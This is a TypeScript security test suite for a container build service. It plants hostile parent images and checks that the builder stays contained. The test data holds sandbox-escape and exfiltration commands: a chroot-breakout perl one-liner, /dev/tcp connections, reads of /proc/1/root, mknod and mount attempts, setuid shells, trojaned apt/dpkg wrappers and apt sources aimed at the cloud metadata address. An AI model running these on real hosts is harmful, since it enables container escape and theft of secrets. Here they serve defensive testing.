import {
  chmodSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { parseReference } from '@patchbay/agent';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { withRealServer } from '../ssm/real-server.ts';
import { runTool, tryTool } from '../support/run-tool.ts';
import { type BuildStage, findProcesses, listLeftovers, openBuildStage, writeComponent } from './build-stage.ts';

const server = withRealServer();
const secret = 'known-to-the-host-only';
let stage: BuildStage;
let listener: Server;
let callers = 0;
/** Of the host, beside everything. */
let place: string;
let hostFile: string;

beforeAll(async () => {
  stage = await openBuildStage(server(), { concurrency: 2 });
  place = join(stage.folder, 'host');
  hostFile = join(place, 'file');
  mkdirSync(place);
  writeFileSync(hostFile, `Package: ${secret}\n`, { mode: 0o640 });
  listener = createServer((socket) => {
    callers += 1;
    socket.end(secret);
  });
  await new Promise<void>((resolve) => {
    listener.listen(0, '127.0.0.1', resolve);
  });
});
afterAll(async () => {
  listener?.close();
  await stage?.close();
});

/** The base image with something planted in its root, in the registry. */
async function publishHostile(name: string, plant: (root: string) => void | Promise<void>): Promise<string> {
  const container = await stage.store.createContainer(stage.base);
  try {
    await plant(container.rootDirectory);
    const image = await container.commit({ timestamp: new Date(0), leavesOut: () => false });
    const reference = `${stage.registry.address}/${name}:1`;
    await stage.store.push(image, parseReference(reference));
    return reference;
  } finally {
    await container.remove();
  }
}

/** What programs inside try; each prints what it got hold of. */
function writeAttempts(): string[] {
  const { port } = listener.address() as AddressInfo;
  const state = join(stage.builder.folder, 'state');
  const perl = `mkdir "/tmp/e"; chroot("/tmp/e"); chdir("..") for 1..60; chroot("."); print -e "${hostFile}" ? "${secret} chroot" : "contained"`;
  return [
    `cat ${hostFile} ${state}/* /proc/1/root${hostFile} 2>/dev/null || true`,
    `echo changed 2>/dev/null >${hostFile} || true`,
    `(exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3) 2>/dev/null || true`,
    'mknod /tmp/disk b 8 0 2>/dev/null && echo made-a-device || true',
    'mount -t proc proc /mnt 2>/dev/null && echo mounted || true',
    'head -c 1 /srv/memory 2>/dev/null && echo read-a-device || true',
    `perl -e '${perl}'`,
    'kill -9 -1 2>/dev/null || true',
  ];
}

function expectHostUntouched(): void {
  expect(readFileSync(hostFile, 'utf8')).toBe(`Package: ${secret}\n`);
  expect((statSync(hostFile).mode & 0o7777).toString(8)).toBe('640');
  expect(readdirSync(place)).toEqual(['file']);
  expect(callers).toBe(0);
}

describe('a hostile parent image', () => {
  it('with links that lead out and devices reaches nothing of the builder', async () => {
    const parentImage = await publishHostile('links', async (root) => {
      for (const path of [
        'etc/resolv.conf',
        'etc/hosts',
        'usr/sbin/policy-rc.d',
        'var/lib/apt/extended_states',
        'srv/way',
      ]) {
        rmSync(join(root, path), { force: true });
        symlinkSync(hostFile, join(root, path));
      }
      rmSync(join(root, 'var/log/apt'), { recursive: true, force: true });
      symlinkSync(place, join(root, 'var/log/apt'));
      await runTool(['mknod', join(root, 'srv/memory'), 'c', '1', '9']);
      writeFileSync(join(root, 'srv/shell'), readFileSync(join(root, 'bin/bash')));
      chmodSync(join(root, 'srv/shell'), 0o4755);
    });
    const tries = ['cat /srv/way /etc/hosts 2>/dev/null || true', ...writeAttempts().slice(0, -1)];
    const { status, reason, lines } = await stage.build('links-app', {
      parentImage,
      withUpdates: true,
      component: writeComponent(tries),
    });
    expect([status, reason]).toEqual(['AVAILABLE', undefined]);
    const said = lines.join('\n');
    expect(said).toContain('contained');
    expect(said).not.toMatch(new RegExp(`${secret}|made-a-device|mounted|read-a-device|BEGIN .*PRIVATE`));
    expectHostUntouched();
    expect(await listLeftovers(stage.builder)).toEqual([]);
  });

  it('with setuid programs hands them to no other user of the builder', async () => {
    const parentImage = await publishHostile('setuid', (root) => {
      writeFileSync(join(root, 'srv/shell'), readFileSync(join(root, 'bin/bash')));
      chmodSync(join(root, 'srv/shell'), 0o4755);
    });
    const { folder } = stage.builder;
    // Only what Patchbay itself makes keeps others out.
    chmodSync(folder, 0o755);
    const copies = ['cp /srv/shell /srv/own-shell', 'chmod 4755 /srv/own-shell', 'sleep 47.16 || true'];
    const arn = await stage.begin('setuid-app', { parentImage, component: writeComponent(copies) });
    await vi.waitUntil(async () => (await findProcesses('sleep 47.16')).length > 0, { timeout: 60_000 });
    const paths = (await runTool(['find', folder, '-path', '*/srv/*shell', '-perm', '-4000'])).trim().split('\n');
    expect(paths.filter((path) => path.endsWith('own-shell'))).not.toEqual([]);
    // setpriv itself keeps its capabilities until it has become another program.
    const asNobody = ['--reuid=65534', '--regid=65534', '--clear-groups', '--', 'sh', '-c', '"$0" -p -c "id -u"'];
    for (const path of paths) {
      const { exitCode, stderr } = await tryTool(['setpriv', ...asNobody, path]);
      expect([exitCode, stderr], path).toEqual([expect.any(Number), expect.stringContaining('Permission denied')]);
      expect(exitCode).not.toBe(0);
    }
    await runTool(['pkill', '--full', '--exact', 'sleep 47.16']);
    expect((await stage.await(arn)).status).toBe('AVAILABLE');
    expect(await listLeftovers(stage.builder)).toEqual([]);
  });

  it('whose package database is a file of the builder learns nothing of it', async () => {
    const parentImage = await publishHostile('status', (root) => {
      rmSync(join(root, 'var/lib/dpkg/status'));
      symlinkSync(hostFile, join(root, 'var/lib/dpkg/status'));
    });
    const { lines, record } = await stage.build('status-app', { parentImage });
    expect(lines.join('\n') + JSON.stringify(record)).not.toContain(secret);
    expectHostUntouched();
    expect(await listLeftovers(stage.builder)).toEqual([]);
  });

  it('whose package manager is a program of its own can lie about itself, and no more', async () => {
    const attempts = writeAttempts().join('\n');
    const parentImage = await publishHostile('liar', (root) => {
      for (const program of ['apt-get', 'apt-cache', 'apt-config', 'dpkg', 'dpkg-query']) {
        writeFileSync(join(root, 'usr/bin', program), `#!/bin/bash\nexec 2>&1\n${attempts}\nexit 0\n`, { mode: 0o755 });
      }
    });
    const liar = await stage.begin('liar-app', { parentImage, withUpdates: true });
    const honest = await stage.begin('honest-app', { withUpdates: true });
    const { status, lines, record } = await stage.await(liar);
    expect(['FAILED', 'AVAILABLE']).toContain(status);
    expect(lines.join('\n') + JSON.stringify(record)).not.toContain(secret);
    expect((await stage.await(honest)).status).toBe('AVAILABLE');
    expectHostUntouched();
    expect(await listLeftovers(stage.builder)).toEqual([]);
  });

  it('whose programs call out before they do their work reaches nobody, whenever they are run', async () => {
    const { port } = listener.address() as AddressInfo;
    const parentImage = await publishHostile('caller', (root) => {
      for (const program of ['true', 'apt-get', 'apt-cache', 'apt-config', 'dpkg-query']) {
        const path = join(root, 'usr/bin', program);
        renameSync(path, `${path}.real`);
        const call = `(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null`;
        writeFileSync(path, `#!/bin/bash\n${call}\nexec "$0.real" "$@"\n`, { mode: 0o755 });
      }
    });
    const { status, reason } = await stage.build('caller-app', { parentImage, withUpdates: true });
    expect([status, reason]).toEqual(['AVAILABLE', undefined]);
    expectHostUntouched();
  });

  it('whose package sources name the builder and its cloud does not get there by them', async () => {
    const { port } = listener.address() as AddressInfo;
    const parentImage = await publishHostile('sources', (root) => {
      const hosts = [`127.0.0.1:${port}`, `localhost:${port}`, '169.254.169.254'];
      const lines = hosts.map((host) => `deb [trusted=yes] http://${host}/debian bookworm main\n`);
      writeFileSync(join(root, 'etc/apt/sources.list.d/metadata.list'), lines.join(''));
    });
    const { lines, record } = await stage.build('sources-app', { parentImage, withUpdates: true });
    expect(lines).toContainEqual(expect.stringContaining(`Kept from 127.0.0.1:${port}`));
    expect(lines).toContainEqual(expect.stringContaining(`Kept from localhost:${port}`));
    expect(lines).toContainEqual(expect.stringContaining('Kept from 169.254.169.254:80'));
    expect(lines.join('\n') + JSON.stringify(record)).not.toContain(secret);
    expectHostUntouched();
  });

  it('without a shell is refused with the reason', async () => {
    const parentImage = await publishHostile('shell-less', (root) => rmSync(join(root, 'bin/sh')));
    const { status, reason } = await stage.build('shell-less-app', { parentImage });
    expect([status, reason]).toEqual(['FAILED', expect.stringContaining('it has no /bin/sh')]);
    expect(await listLeftovers(stage.builder)).toEqual([]);
  });
});
